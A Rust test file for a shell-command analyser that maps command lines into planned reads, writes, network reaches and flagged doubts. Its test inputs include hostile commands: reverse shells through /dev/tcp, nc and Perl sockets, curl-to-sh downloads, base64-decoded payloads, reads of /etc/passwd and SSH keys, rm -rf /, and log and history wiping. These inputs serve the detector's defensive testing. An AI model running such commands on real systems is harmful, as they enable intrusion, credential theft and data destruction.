//! Command lines and all that they would do: a plan is compared as a whole.

use std::collections::{BTreeMap, BTreeSet};

use pathwarden_lens_shell::{Doubt, Plan, Surroundings, Would, of_argv, of_script};

fn surroundings() -> Surroundings {
    let variables = [("PROJECT", "/srv/p"), ("PATH", "/usr/bin:/bin")];
    Surroundings {
        home: "/home/u".to_owned(),
        variables: variables.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect(),
    }
}

fn words(plan: &Plan) -> (String, String) {
    let acts: Vec<String> =
        plan.would.iter().map(|would| format!("{} {}", would.act.as_str(), would.what)).collect();
    let doubts: Vec<&str> = plan.doubts.iter().map(|doubt| doubt.as_str()).collect();
    (acts.join(", "), doubts.join(" "))
}

/// Checks lines with their acts, in the order of plans, and their doubts.
fn check(cases: &[(&str, &str, &str)]) {
    let mut faults = Vec::new();
    for (line, acts, doubts) in cases {
        let found = words(&of_script(line.as_bytes(), &surroundings()));
        if found != ((*acts).to_owned(), (*doubts).to_owned()) {
            faults.push(format!(
                "{line}\n  want {acts} [{doubts}]\n  have {} [{}]",
                found.0, found.1
            ));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn words_and_quotes() {
    check(&[
        (
            r#"cat 'a b' "c d" e\ f $'g\th' i"j"k"#,
            "run cat, read a b, read c d, read e f, read g\th, read ijk",
            "",
        ),
        ("cat a \\\n b # c", "run cat, read a, read b", ""),
        ("cat a#b", "run cat, read a#b", ""),
        (
            "cat \"$PROJECT/x\" ${PROJECT}y ~/z ~other/z '~/q'",
            "run cat, read /home/u/z, read /srv/p/x, read /srv/py, read ~/q, read ~other/z",
            "",
        ),
        ("cat '$PROJECT' \"\\$PROJECT\"", "run cat, read $PROJECT", ""),
        (
            "cat /{a,b}{1,2} {x} {1..3}",
            "run cat, read /a1, read /a2, read /b1, read /b2, read 1, read 2, read 3, read {x}",
            "",
        ),
        ("cat \"{a,b}\"", "run cat, read {a,b}", ""),
        ("cat $UNKNOWN/x", "run cat, read $UNKNOWN/x", "opaque"),
        (
            "cat /etc/pass${nothing}wd",
            "run cat, read /etc/pass${nothing}wd, read /etc/passwd",
            "opaque",
        ),
        ("c${nothing}at x", "run c${nothing}at, run cat, read x", "opaque"),
        ("IFS=,; x=cat,/etc/hosts; $x", "run cat, read /etc/hosts", ""),
        ("\\cat x", "run cat, read x", ""),
        ("cat $'\\x2fetc/hosts'", "run cat, read /etc/hosts", "decoded"),
    ]);
}

#[test]
fn expansions_of_what_is_known() {
    check(&[
        ("cd \"$(date)\" && cat x", "run cat, run date, read $(…)/x", "opaque"),
        (
            "x=/a/b.c; cat ${x%.c} ${x##*/} ${x:1:1} ${x/b/d} ${x^^} ${#x} ${y:-/z} ${x:+/w}",
            "run cat, read /A/B.C, read /a/b, read /a/d.c, read /w, read /z, read 6, read a, read b.c",
            "",
        ),
        (
            "a=(p q r); cat ${a[1]} \"${a[@]:1}\"; a+=(s); cat ${a[-1]}",
            "run cat, read p, read q, read r, read s",
            "",
        ),
        ("n=x; x=/v; cat ${!n}", "run cat, read /v", ""),
        ("set -- /a /b; shift; cat $1 $#", "run cat, read /b, read 1", ""),
        ("cat $((2*(3+4))) $[1+1]", "run cat, read 14, read 2", ""),
        ("x=1; x+=2; cat $x", "run cat, read 12", ""),
        ("read a b <<< '/p /q'; cat $b", "run cat, read /q", ""),
        ("printf -v f '/%s' etc; cat $f", "run cat, read /etc", ""),
        ("export F=/e; cat $F; unset F; cat $F", "run cat, read $F, read /e", "opaque"),
        ("(x=/in; cat $x); cat ${x-/out}", "run cat, read /in, read /out", ""),
        (
            "cat $(echo /a; echo /b) `echo /c` \"$(printf '/d')\"",
            "run cat, read /a, read /b, read /c, read /d",
            "",
        ),
        ("cat $(date)", "run cat, run date, read $(…)", "opaque"),
    ]);
}

#[test]
fn every_branch_is_walked() {
    check(&[
        (
            "if a; then cat b; elif c; then cat d; else cat e; fi",
            "run a, run c, run cat, read b, read d, read e",
            "",
        ),
        (
            "while a; do cat b; done; until c; do cat d; done",
            "run a, run c, run cat, read b, read d",
            "",
        ),
        (
            "case $UNKNOWN in a|b) cat c;; (*) cat d;& e) cat f; esac",
            "run cat, read c, read d, read f",
            "",
        ),
        (
            "for i in 1 2; do cat $i; done; for ((i=0;i<3;i++)); do cat x; done",
            "run cat, read 1, read 2, read x",
            "",
        ),
        ("select i in a; do cat $i; done", "run cat, read a", ""),
        ("{ cat a; } && (cat b) || ! cat c & cat d", "run cat, read a, read b, read c, read d", ""),
        ("x=/a; false && x=/b; cat $x", "run cat, read /a, read /b", ""),
        ("x=/a; if t; then x=/b; fi; cat $x", "run cat, run t, read /a, read /b", ""),
        (
            "f() { cat \"$1\" \"$@\"; }; function g { f /y; }; f /x; g",
            "run cat, read /x, read /y",
            "",
        ),
        ("curl() { :; }; unset -f curl; curl http://e.example", "run curl, reach e.example", ""),
        ("false && curl() { :; }; curl http://e.example", "run curl, reach e.example", ""),
        ("(curl() { :; }); curl http://e.example", "run curl, reach e.example", ""),
        ("alias curl=true; curl http://e.example", "run curl, reach e.example", ""),
        ("for x in a b; do cat $y; y=/late; done", "run cat, read $y, read /late", "opaque"),
        ("[[ -f $(cat a) && b > c ]]; (( $(cat d) ))", "run cat, read a, read d", ""),
        ("coproc cat a; time -p cat b; time { cat c; }", "run cat, read a, read b, read c", ""),
        ("trap 'cat a' EXIT; cat b", "run cat, read a, read b", ""),
    ]);
}

#[test]
fn what_follows_a_cd_runs_where_it_ended() {
    check(&[
        ("true && cd src && cat ../x", "run cat, read src/../x", ""),
        (
            "mkdir -p b && cd b && gcc -o x ../h.c",
            "run gcc, run mkdir, read b/../h.c, write b, write b/x",
            "",
        ),
        ("true && cd a && cd b && cat x", "run cat, read a/b/x", ""),
        ("true && { t && cd a; } && cat x", "run cat, run t, read a/x", ""),
        ("true && cd a; cat x", "run cat, read a/x, read x", ""),
        ("true && cd a && t; cat x", "run cat, run t, read a/x, read x", ""),
        ("true && cd a || true; cat x", "run cat, read a/x, read x", ""),
        ("true && cd a || true && cat x", "run cat, read a/x, read x", ""),
        ("{ true && cd a || t; } && cat x", "run cat, run t, read a/x, read x", ""),
        ("cd a && cd b && cd c; cat x", "run cat, read a/b/c/x, read a/b/x, read a/x", ""),
        // It may fail after it has moved: `readonly OLDPWD`.
        ("true && cd a || cat x", "run cat, read a/x, read x", ""),
        ("true && ! cd a && cat x", "run cat, read a/x, read x", ""),
        ("true && ! ! cd a && cat x", "run cat, read a/x", ""),
        ("until true && cd a; do cat x; done", "run cat, read a/a/x, read a/x, read x", ""),
        ("while t && cd a; do cat x; break; done", "run cat, run t, read a/a/x, read a/x", ""),
        (
            "f() { t && cd a && return; t && cd b; }; f && cat x",
            "run cat, run t, read a/b/x, read a/x, read b/x, read x",
            "",
        ),
        ("false && cd() { :; }; t && cd a && cat x", "run cat, run t, read a/x, read x", ""),
        ("t && pushd -n a && cat x", "run cat, run t, read a/x, read x", ""),
        ("for d in a b; do (t && cd $d && cat x); done", "run cat, run t, read a/x, read b/x", ""),
        (
            "echo 'cat /p' > s; t && cd d && echo 'cat /q' > s; sh s",
            "run cat, run sh, run t, read /p, read /q, read d/s, read s, write d/s, write s",
            "",
        ),
    ]);
}

#[test]
fn redirections() {
    check(&[
        (
            "a < b > c 2> d >> e &> f >| g 2>&1 <> h",
            "run a, read b, read h, write c, write d, write e, write f, write g, write h",
            "",
        ),
        ("> a", "write a", ""),
        ("a > /dev/null 2>&1 < /dev/null", "run a", ""),
        ("{ a; b; } > c", "run a, run b, write c", ""),
        ("while read l; do cat $l; done < list", "run cat, read $l, read list", "opaque"),
        ("cat <<E | sh\ncat $PROJECT\nE\ncat b", "run cat, run sh, read /srv/p, read b", ""),
        ("cat <<'E' | sh\ncat $PROJECT\nE", "run cat, run sh, read /srv/p", ""),
        ("cat <<-E > f\n\tx\n\tE\ncat g", "run cat, read g, write f", ""),
        ("sh <<< 'cat a'", "run cat, run sh, read a", ""),
        (
            "diff <(cat a) <(cat b) > >(tee c)",
            "run cat, run diff, run tee, read a, read b, write c",
            "",
        ),
        ("echo hi > /dev/tcp/h.example/80", "reach h.example:80", "listens"),
        (
            "exec 3<>/dev/tcp/h.example/80; cat <&3 | sh",
            "run cat, run sh, reach h.example:80",
            "opaque fetched_code listens",
        ),
        ("sh -i <& 3 >& /dev/udp/h.example/1", "run sh, reach h.example:1", "listens"),
        ("exec {fd}> x", "write x", ""),
    ]);
}

#[test]
fn shells_and_wrappers() {
    check(&[
        ("bash -lc 'cat $1' name /x", "run bash, run cat, read /x", ""),
        ("bash -o pipefail -euc 'cat a'", "run bash, run cat, read a", ""),
        ("sh script.sh /arg", "run sh, read script.sh", ""),
        ("eval cat '$PROJECT'; eval \"$UNKNOWN\"", "run $UNKNOWN, run cat, read /srv/p", "opaque"),
        ("exec -a name cat x; command cat y; builtin cd /z", "run cat, read x, read y", ""),
        ("env -i -u A B=/c sh -c 'cat $B'", "run cat, run env, run sh, read /c", ""),
        ("env -S 'cat a'", "run cat, run env, read a", ""),
        (
            "nohup nice -n 3 timeout -s KILL 5 setsid stdbuf -oL cat a",
            "run cat, run nice, run nohup, run setsid, run stdbuf, run timeout, read a",
            "",
        ),
        (
            "sudo -u root cat a; doas cat b; su - root -c 'cat c'",
            "run cat, run doas, run su, run sudo, read a, read b, read c",
            "privilege",
        ),
        (
            "echo a b | xargs -n1 rm -f; xargs -I{} cp {} /d < /dev/null",
            "run cp, run rm, run xargs, read $(…), write /d, remove a, remove b",
            "opaque",
        ),
        (
            "find /a -name '*.c' -exec cat {} \\; -o -delete",
            "run cat, run find, read /a, read /a/**/*.c, remove /a/**/*.c",
            "wildcard",
        ),
        ("find ~ -name id_rsa", "run find, read /home/u", ""),
        (
            "cat $(find ~ -name 'id_*')",
            "run cat, run find, read /home/u, read /home/u/**/id_*, read /home/u/.ssh/id_ecdsa, read /home/u/.ssh/id_ed25519, read /home/u/.ssh/id_rsa",
            "",
        ),
        (
            "watch -n 1 cat a; script -qc 'cat b' /dev/null; flock /l -c 'cat c'; flock /l cat d",
            "run cat, run flock, run script, run watch, read a, read b, read c, read d, write /l",
            "",
        ),
        (
            "busybox cat a; parallel cat ::: b c",
            "run busybox, run cat, run parallel, read a, read b, read c",
            "",
        ),
        (
            "ssh -i k -p 22 u@h.example cat /x",
            "run cat, run ssh, read /x, read k, reach h.example:22",
            "",
        ),
        (
            "strace -o t -f cat a; gdb -batch -ex 'shell cat b'",
            "run cat, run gdb, run strace, read a, read b, write t",
            "",
        ),
        ("LD_PRELOAD=./x.so cat a", "run ./x.so, run cat, read a, read x.so", ""),
        (
            "nsenter -t 1 -m cat a; chroot /r cat b",
            "run cat, run chroot, run nsenter, read /r, read /r/b, read a, change namespace:1, change namespace:root",
            "",
        ),
        (
            "printf 'cat /x' > s; bash s; . ./s; ./s",
            "run ./s, run bash, run cat, read /x, read s, write s",
            "",
        ),
    ]);
}

#[test]
fn files_of_common_programs() {
    check(&[
        (
            "cp -r a b c; cp -t d e; install -m 755 f g",
            "run cp, run install, read a, read b, read e, read f, write c, write d, write g",
            "",
        ),
        ("mv a b", "run mv, read a, write b, remove a, change a", ""),
        (
            "rm -rf a/b *.o; rm -rf /; rm -r ~",
            "run rm, remove *.o, remove /, remove /home/u, remove a/b",
            "wildcard",
        ),
        ("rm -rf ./build", "run rm, remove build", ""),
        (
            "cd /srv && rm -rf x; cd sub; touch y",
            "run rm, run touch, write /srv/sub/y, remove /srv/x",
            "",
        ),
        (
            "chmod -x a; chmod u+s b; chown -R u:g /etc",
            "run chmod, run chown, change /etc, change a, change b",
            "wildcard privilege",
        ),
        (
            "dd if=a of=b; tee c d; truncate -s0 e; touch f; mkdir -p g; ln -s h i",
            "run dd, run ln, run mkdir, run tee, run touch, run truncate, read a, read h, write b, write c, write d, write e, write f, write g, write i",
            "",
        ),
        (
            "grep -r x; grep -e x a; grep -f b c; grep x d",
            "run grep, read ., read a, read b, read c, read d",
            "",
        ),
        (
            "sed -i 's/a/b/' f; sed -n 'w o' g; sed 's/x/id/e' h",
            "run id, run sed, read f, read g, read h, write f, write o",
            "",
        ),
        (
            "awk '{print > \"o\"}' f; awk 'BEGIN{\"cat g\" | getline}'",
            "run awk, run cat, read f, read g, write o",
            "",
        ),
        (
            "tar xzf a -C b; tar cf c -C d e; tar -x -f f -I 'cat g'",
            "run cat, run tar, read a, read d/e, read f, read g, write ., write b, write c",
            "",
        ),
        (
            "gcc -o a b.c; make -C d -f m; zip z a b; unzip -d o z",
            "run gcc, run make, run unzip, run zip, read a, read b, read b.c, read d/m, read z, write a, write o, write z",
            "",
        ),
        (
            "cat /e?c/pas*; cat ~/.ss?/id_rsa",
            "run cat, read /e?c/pas*, read /etc/passwd, read /home/u/.ss?/id_rsa, read /home/u/.ssh/id_rsa",
            "",
        ),
        (
            "echo x >> ~/.bash_history; truncate -s 0 /var/log/auth.log",
            "run truncate, write /home/u/.bash_history, write /var/log/auth.log",
            "history",
        ),
        ("vim -c ':!cat a' b", "run cat, run vim, read a, write b", ""),
        (
            "shred -u a; unlink b; rmdir c",
            "run rmdir, run shred, run unlink, write a, remove a, remove b, remove c",
            "",
        ),
    ]);
}

#[test]
fn hosts_of_common_programs() {
    check(&[
        (
            "curl -sSL -o a https://U:p@H.example:8/x -d @b -K c",
            "run curl, read b, read c, write a, reach h.example:8",
            "",
        ),
        (
            "curl -x proxy.example:3 h.example; wget -O- http://i.example",
            "run curl, run wget, reach h.example, reach i.example, reach proxy.example:3",
            "",
        ),
        ("curl --unix-socket /s http://x.example/", "run curl, reach unix:/s, reach x.example", ""),
        (
            "scp -P 2 a u@h.example:b; rsync -a i.example:c d; sftp u@j.example",
            "run rsync, run scp, run sftp, read a, write d, reach h.example, reach i.example, reach j.example",
            "",
        ),
        (
            "nc h.example 80; nc -lvp 9; telnet i.example 23; socat - TCP:j.example:1",
            "run nc, run socat, run telnet, reach h.example:80, reach i.example:23, reach j.example:1",
            "listens",
        ),
        (
            "dig @n.example x.example; ping -c 1 h.example; nslookup y.example",
            "run dig, run nslookup, run ping, reach h.example, reach n.example, reach x.example, reach y.example",
            "",
        ),
        (
            "git clone git@h.example:a/b.git; git push origin x; git remote add r https://i.example/x; git fetch r",
            "run git, read .git, write .git, write .git/config, write b, reach git:origin, reach h.example, reach i.example",
            "",
        ),
        (
            "git -C /r -c core.sshCommand='cat a' fetch",
            "run cat, run git, read a, write /r/.git, reach git:origin",
            "",
        ),
        (
            "pip install x; npm i y; cargo add z",
            "run cargo, run npm, run pip, write node_modules, change package:x, change package:y, change package:z, reach crates.io, reach pypi.org, reach registry.npmjs.org",
            "",
        ),
        (
            "psql -h d.example -p 5 -c '\\! cat a'; redis-cli -h e.example",
            "run cat, run psql, run redis-cli, read a, reach d.example:5, reach e.example",
            "",
        ),
        (
            "openssl s_client -connect h.example:4; aws s3 cp a s3://b",
            "run aws, run openssl, read a, reach h.example:4, reach s3.amazonaws.com",
            "",
        ),
        (
            "docker run -v /a:/b --privileged q.example/i cat c",
            "run cat, run docker, read /a, read c, write /a, reach q.example, reach unix:/var/run/docker.sock",
            "privilege",
        ),
    ]);
}

#[test]
fn changes_of_the_system() {
    check(&[
        (
            "systemctl enable a; systemctl status b; service c restart",
            "run service, run systemctl, change unit:a, change unit:c",
            "",
        ),
        (
            "kill -9 12; kill -0 13; pkill -f x; kill -9 -1",
            "run pkill, change process:*, change process:12, change process:x",
            "wildcard",
        ),
        (
            "mount -t tmpfs none m; umount n; sysctl -w a.b=1; modprobe x",
            "run modprobe, run mount, run sysctl, run umount, change m, change module:x, change n, change sysctl:a.b",
            "privilege",
        ),
        (
            "(crontab -l; echo '* * * * * cat a') | crontab -",
            "run crontab, read crontab, change crontab",
            "",
        ),
        ("echo '@daily cat a' | crontab", "run cat, run crontab, read a, change crontab", ""),
        (
            "useradd x; iptables -F; reboot",
            "run iptables, run reboot, run useradd, change account:x, change firewall, change power",
            "privilege",
        ),
        ("history -c; HISTFILE=/dev/null", "", "history"),
    ]);
}

#[test]
fn code_that_is_fetched_or_decoded() {
    check(&[
        (
            "mkfifo f; cat f | sh -i 2>&1 | nc h.example 1 > f",
            "run cat, run mkfifo, run nc, run sh, read f, write f, reach h.example:1",
            "opaque listens",
        ),
        ("curl h.example | sh", "run curl, run sh, reach h.example", "opaque fetched_code"),
        (
            "sh -c \"$(wget -qO- http://h.example)\"",
            "run sh, run wget, reach h.example",
            "opaque fetched_code",
        ),
        (
            "curl h.example | tee x | grep y | bash",
            "run bash, run curl, run grep, run tee, write x, reach h.example",
            "opaque fetched_code",
        ),
        (
            "curl -o x h.example; sh x",
            "run curl, run sh, read x, write x, reach h.example",
            "opaque fetched_code",
        ),
        (
            "curl h.example | python3",
            "run curl, run python3, reach h.example",
            "opaque fetched_code",
        ),
        (
            "curl h.example | gunzip > x; chmod +x x; ./x",
            "run ./x, run chmod, run curl, run gunzip, write x, change x, reach h.example",
            "opaque decoded fetched_code decoded_code",
        ),
        (
            "echo Y2F0IGE= | base64 -d | sh",
            "run base64, run cat, run sh, read a",
            "decoded decoded_code",
        ),
        ("echo Y2F0IGE= | base64 -d", "run base64", "decoded"),
        (
            "echo 63617420 61 | xxd -r -p | sh; echo 'a tac' | rev | sh",
            "run cat, run rev, run sh, run xxd, read a",
            "decoded decoded_code",
        ),
        ("base64 -d f | sh", "run base64, run sh, read f", "opaque decoded decoded_code"),
    ]);
}

#[test]
fn code_in_other_languages_is_looked_through() {
    check(&[
        (
            "perl -e 'use Socket; connect(S, sockaddr_in(9, inet_aton(\"10.0.0.1\"))); exec(\"/bin/sh -i\")'",
            "run perl, run sh, reach 10.0.0.1:9",
            "opaque",
        ),
        (
            "python3 -c 'import os; os.system(\"cat /a\"); os.remove(\"/b\")'",
            "run cat, run python3, read /a, remove /b",
            "opaque",
        ),
        (
            "python3 -c 'subprocess.run([\"cat\", \"/a\"], cwd=\"/b\"); open(\"c\", \"w\")'",
            "run cat, run python3, read /a, read /b, read c, write c",
            "opaque",
        ),
        (
            "python3 -c 's.connect((\"h.example\", 80)); open(\"/etc/\" + \"passwd\")'",
            "run python3, read /etc/passwd, reach h.example:80",
            "opaque",
        ),
        (
            "python3 -c 'exec(base64.b64decode(\"b3BlbigiL2EiKQ==\"))'",
            "run python3, read /a",
            "opaque decoded",
        ),
        (
            "python3 x.py /a; python3 -m http.server; python3 -V",
            "run python3, read /a, read x.py",
            "listens",
        ),
        (
            "perl -i -pe 's/a/b/' f; perl -e 'system \"cat\", \"/a\"; qx(cat /b); open F, \">/c\"'",
            "run cat, run perl, read /a, read /b, write /c, write f",
            "opaque",
        ),
        (
            "node -e 'fs.unlinkSync(\"/a\"); cp.spawn(\"sh\", [\"-c\", \"cat /b\"]); fetch(`http://h.example/x`)'",
            "run cat, run node, run sh, read /b, remove /a, reach h.example",
            "opaque",
        ),
        (
            "ruby -e '`cat /a`; TCPSocket.new(\"h.example\", 5)'",
            "run cat, run ruby, read /a, reach h.example:5",
            "opaque",
        ),
        (
            "echo 'print(open(\"/a\").read())' > t.py; python3 t.py",
            "run python3, read /a, read t.py, write t.py",
            "opaque",
        ),
    ]);
}

#[test]
fn broken_text_is_doubted_and_still_read() {
    check(&[
        ("cat a; )( cat b", "run cat, read a, read b", "unparsable"),
        ("cat 'a", "run cat, read a", "unparsable"),
        ("if cat a; then", "run cat, read a", "unparsable"),
        ("cat $(cat a", "run cat, read $(…), read a", "opaque unparsable"),
        ("cat a;; cat b", "run cat, read a, read b", "unparsable"),
        ("", "", ""),
        ("# nothing", "", ""),
    ]);
}

#[test]
fn bytes_that_are_no_text_are_doubted() {
    let plan = of_script(b"cat \xff\0x", &surroundings());
    assert!(plan.doubts.contains(&Doubt::Unparsable));
    assert_eq!(words(&plan).0, "run cat, read \u{fffd}x");
}

#[test]
fn words_of_an_execve_are_not_expanded() {
    let plan = of_argv(&[b"/usr/bin/cat", b"$HOME", b"a*", b"~"], &surroundings());
    assert_eq!(words(&plan).0, "run cat, read $HOME, read a*, read ~");
    let plan = of_argv(&[b"./tool", b"--out=/a", b"https://h.example/x"], &surroundings());
    assert_eq!(words(&plan).0, "run ./tool, read /a, reach h.example");
    assert_eq!(of_argv(&[], &surroundings()), Plan::default());
}

#[test]
fn what_is_not_known_of_the_place_stays_as_spelled() {
    let nowhere = Surroundings { home: String::new(), variables: BTreeMap::new() };
    let plan = of_script(b"cat ~/a $HOME/b", &nowhere);
    let want: BTreeSet<String> =
        ["run cat", "read ~/a", "read $HOME/b"].iter().map(|one| (*one).to_owned()).collect();
    let have: BTreeSet<String> =
        plan.would.iter().map(|Would { act, what }| format!("{} {what}", act.as_str())).collect();
    assert_eq!(have, want);
}
